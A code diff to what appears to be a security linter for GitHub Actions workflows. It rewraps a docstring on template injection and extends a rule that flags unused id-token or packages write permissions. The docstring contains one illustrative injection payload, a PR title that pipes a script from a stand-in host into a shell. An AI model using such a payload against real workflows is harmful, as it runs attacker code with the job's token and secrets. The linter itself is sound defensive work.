@@ -160,9 +160,10 @@ def template_injection(wf: Workflow) -> Iterator[Finding]:
 
     `${{ }}` is substituted into the script text before the shell parses it, and likewise into
     action inputs that are run as code (`actions/github-script`'s `script`, `mikefarah/yq`'s
-    `cmd`, `azure/cli`'s `inlineScript`, `appleboy/ssh-action`'s `script`...). An issue title, PR title or body, branch name, comment or commit
-    message is chosen by whoever opens it, so a title such as `"; curl evil.sh | sh; #` becomes
-    code running with the job's token and secrets. Passing the value through `env:` and quoting
+    `cmd`, `azure/cli`'s `inlineScript`, `appleboy/ssh-action`'s `script`...). An issue title,
+    PR title or body, branch name, comment or commit message is chosen by whoever opens it, so a
+    title such as `"; curl evil.sh | sh; #` becomes code running with the job's token and
+    secrets. Passing the value through `env:` and quoting
     the variable (`"$TITLE"`) keeps it data, and is not flagged.
 
     ## Why it matters
@@ -371,6 +372,7 @@ def excessive_permissions(wf: Workflow) -> Iterator[Finding]:
     if wf.permissions is not None:
         scopes.append((wf.permissions, "workflow"))
     scopes += [(j.permissions, f"job {j.id}") for j in wf.jobs if j.permissions is not None]
+    workflow_grants: dict[str, tuple[YNode, list[tuple[str, bool]]]] = {}
     # A workflow-level grant reaches only the jobs without their own `permissions:`.
     workflow_reaches = any(j.permissions is None for j in wf.jobs) or wf.is_action
     for node, where in scopes:
@@ -381,14 +383,28 @@ def excessive_permissions(wf: Workflow) -> Iterator[Finding]:
                 node.span, f"{where} grants write-all: every scope of the GITHUB_TOKEN is writable"
             )
     for job in wf.jobs:
-        perms = job.permissions
-        if perms is None or not perms.is_map or not _only_plain_steps(job):
+        perms = job.effective_permissions()
+        inherited = perms is not job.permissions
+        if perms is None or not perms.is_map:
             continue
         run = "\n".join(s.run_text for s in job.steps)
+        plain = _only_plain_steps(job)
         for scope, pattern in (("id-token", _OIDC_RUN), ("packages", _PUSH_RUN)):
             v = perms.get(scope)
-            if v is not None and (v.text or "").strip() == "write" and not pattern.search(run):
+            if v is None or (v.text or "").strip() != "write":
+                continue
+            unused = plain and not pattern.search(run)
+            if inherited:
+                # One finding on the workflow's grant, when no job it reaches uses it.
+                workflow_grants.setdefault(scope, (v, []))[1].append((job.id, unused))
+            elif unused:
                 yield Finding(v.span, f"job {job.id} grants {scope}: write but no step uses it")
+    for scope, (v, reached) in workflow_grants.items():
+        if all(unused for _, unused in reached):
+            names = ", ".join(j for j, _ in reached)
+            yield Finding(
+                v.span, f"the workflow grants {scope}: write to job(s) {names}, which do not use it"
+            )
 
 
 @rule(
